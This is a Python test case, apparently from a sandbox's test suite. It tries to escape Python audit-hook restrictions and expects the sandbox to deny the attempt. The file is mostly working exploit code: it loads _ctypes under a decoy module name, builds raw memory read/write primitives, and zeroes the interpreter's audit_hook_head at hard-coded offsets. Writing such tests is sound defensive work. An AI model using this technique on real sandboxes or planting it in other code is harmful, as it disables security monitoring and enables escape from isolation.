"""Load the standard library's own _ctypes extension (lib-dynload: an
allowed extension path) under the dotted name "innocent._ctypes": the
loader looks for PyInit__ctypes (the last component), so a check on the
module name "_ctypes" alone does not fire. Then use it without any audited
call: ctypes pointer indexing reads and writes memory unchecked, so zero
_PyRuntime.audit_hook_head (found from id(None): the interpreter's data is
at a fixed distance from None) and import ctypes for real.

{
  "policy": {"version": 1},
  "oracle": {"stdout_lacks": "ESCAPED"},
  "expect": {"status": "ok",
             "events": [{"layer": "audit", "rule": "native.ctypes", "action": "deny"}]}
}
"""
import glob
import importlib.machinery
import importlib.util
import sys
import types

path = glob.glob(f"{sys.prefix}/lib/python3.11/lib-dynload/_ctypes.cpython-311-*.so")[0]
sys.modules["innocent"] = types.ModuleType("innocent")
try:
    loader = importlib.machinery.ExtensionFileLoader("innocent._ctypes", path)
    spec = importlib.util.spec_from_file_location("innocent._ctypes", path, loader=loader)
    raw = importlib.util.module_from_spec(spec)
except (ImportError, OSError) as e:
    print("refused:", repr(e), repr(e.__cause__))
    sys.exit(0)
print("loaded", raw.__name__, "from", raw.__file__, flush=True)


class Word(raw._SimpleCData):
    _type_ = "q"


cell = Word(0)
ptr = raw.pointer(cell)
base = id(cell) + 80                    # CDataObject.b_value in 3.11
assert ptr[-9] == id(Word), "unexpected CDataObject layout"


def peek(addr):
    return ptr[(addr - base) // 8]


def poke(addr, value):
    ptr[(addr - base) // 8] = value


# _PyRuntime - &_Py_NoneStruct in sandboxpy's static build and in Debian's
# python3.11; _PyRuntime starts with _initialized=1, preinitializing=0,
# preinitialized=1, core_initialized=1.
for delta in (0x103E20, 0x101560):
    rt = id(None) + delta
    if peek(rt) == 1 and peek(rt + 8) == 0x100000001:
        print("audit_hook_head", hex(peek(rt + 656)), "-> 0", flush=True)
        poke(rt + 656, 0)
        break
try:
    import ctypes
    print("ESCAPED: libc getpid() =", ctypes.CDLL(None).getpid())
except (ImportError, OSError) as e:
    print("refused:", repr(e))
